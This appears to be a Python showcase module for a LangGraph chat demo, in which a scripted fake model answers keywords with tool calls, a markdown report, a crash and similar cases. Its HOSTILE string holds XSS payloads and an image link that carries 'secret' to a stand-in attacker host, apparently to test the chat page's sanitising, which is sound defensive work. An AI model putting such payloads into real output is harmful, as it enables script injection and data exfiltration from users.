"""Everything that a chat page can show, chosen by words of the user's message."""

from __future__ import annotations

import operator
import re
from typing import Annotated, Any

from langchain_core.messages import BaseMessage, HumanMessage, SystemMessage, ToolMessage
from langchain_core.runnables import RunnableConfig
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.graph.state import CompiledStateGraph
from langgraph.prebuilt import ToolNode

from examples.models import call_id, chat_model, pause, question, results, words
from examples.showcase.tools import TOOLS, WEATHER, draw_chart
from yai_nexus_agentkit.orchestration.client_tools import client_tools, tool_routes
from yai_nexus_agentkit.testing import reasoning_part, tool_calls_part

USAGE = (
    "Say: weather in Berlin, Oslo and Paris; pay Ada 50; book a flight; ask the librarian; make a plan; "
    "quarterly report; count; read a file; crash. Or send me a picture."
)
REPORT = '''## Quarterly report

Revenue grew by **18 %**, mostly from *existing* customers. See the [source](https://example.com/report).

| Region | Q1 | Q2 | Change |
| :--- | ---: | ---: | ---: |
| North | 120 | 152 | +27 % |
| South | 98 | 101 | +3 % |
| West | 143 | 149 | +4 % |

How it was computed:

```python
def change(before: float, after: float) -> str:
    """The growth in percent."""
    return f"{(after - before) / before:+.0%}"

for region, (q1, q2) in sales.items():
    print(region, change(q1, q2))
```

1. Numbers come from the ledger.
2. Currency is EUR.
   - no adjustment for inflation
   - `NaN` rows are dropped

- [x] checked by two people
- [ ] signed

> The next report is due in October.[^1]

[^1]: Unless the holidays move it.
'''
HOSTILE = """Hi <img src=x onerror="window.hacked=1"> <script>window.hacked=2</script> [click](javascript:alert(1))
![pixel](https://evil.example/p.png?q=secret)

```js
let a = 1 // unfinished"""


class State(MessagesState, total=False):
    temperatures: Annotated[dict[str, int], operator.or_]


def script(messages: list[BaseMessage]) -> list[Any]:
    """The answer to the last message, or to the results of its tools."""
    text, found = question(messages), results(messages)
    cities = [city for city in WEATHER if city.lower() in text.lower()]
    if found:
        return tokens(table_of(cities)) if cities else words(f"Done: {found[-1].rstrip('.')}.")
    if sent := attachments(messages):
        return words(f"You sent me {' and '.join(sent)}.")
    if cities:
        thought = f"{len(cities)} cities. None depends on another, so I look all of them up at once, then compare them."
        calls = [("get_weather", {"city": city}, call_id(messages, f"weather-{city}")) for city in cities]
        return [*map(reasoning_part, words(thought)), tool_calls_part(*calls)]
    if wanted := re.search(r"pay (\w+) (\d+)", text, re.IGNORECASE):
        args = {"amount": int(wanted[2]), "to": wanted[1].title()}
        return [*words("I prepare the payment. "), tool_calls_part(("pay", args, call_id(messages, "pay")))]
    for word, (name, args) in CALLS.items():
        if word in text.lower():
            return [tool_calls_part((name, args, call_id(messages, name)))]
    for word, answer in ANSWERS.items():
        if word in text.lower():
            return answer
    return words(USAGE)


CALLS: dict[str, tuple[str, dict[str, Any]]] = {
    "book": ("book_flight", {"to": "Lisbon"}),
    "librarian": ("ask_librarian", {"topic": "gardening"}),
    "plan": ("make_plan", {"goal": "Write the report"}),
    "file": ("read_file", {"path": "budget.csv"}),
}


def tokens(text: str, size: int = 6) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


ANSWERS: dict[str, list[Any]] = {
    "report": [*map(reasoning_part, words("They want the numbers in a table, and the code.")), *tokens(REPORT)],
    "count": [part for number in range(1, 301) for part in (f"{number} ", pause())],
    "crash": [*words("Well, "), RuntimeError("the model is gone")],
    "hostile": tokens(HOSTILE, 20),
}


def table_of(cities: list[str]) -> str:
    rows = [f"| {city} | {WEATHER[city][0]} °C | {WEATHER[city][1]} |" for city in cities]
    head = ["Here is what I found:", "", "| City | Temperature | Sky |", "| :-- | --: | :-- |"]
    return "\n".join([*head, *rows, "", "Take a coat to **Oslo** in any case."])


def attachments(messages: list[BaseMessage]) -> list[str]:
    newest = next(message for message in reversed(messages) if isinstance(message, HumanMessage))
    return [f"a file of type {block.get('mime_type')}" for block in newest.content_blocks if block["type"] != "text"]


def compare(state: State) -> dict[str, Any]:
    """A chart of the temperatures, once there are several."""
    temperatures = state.get("temperatures") or {}
    last = state["messages"][-1]
    if len(temperatures) > 1 and isinstance(last, ToolMessage) and last.name == "get_weather":
        draw_chart(temperatures)
    return {}


def graph(config: RunnableConfig) -> CompiledStateGraph[Any, Any, Any, Any]:
    model = chat_model(config, script)
    after_model, after_tools = tool_routes(server_tools=TOOLS)

    async def agent(state: State, config: RunnableConfig) -> dict[str, Any]:
        bound = model.bind_tools([*TOOLS, *client_tools(config, exclude=TOOLS)])
        return {"messages": [await bound.ainvoke([SystemMessage("Be brief."), *state["messages"]], config)]}

    return (
        StateGraph(State)
        .add_node(agent)
        .add_node("tools", ToolNode(TOOLS, handle_tool_errors=True))
        .add_node(compare)
        .add_edge(START, "agent")
        .add_conditional_edges("agent", after_model, ["tools", END])
        .add_conditional_edges("tools", after_tools, {"agent": "compare", END: END})
        .add_edge("compare", "agent")
        .compile(checkpointer=InMemorySaver())
    )
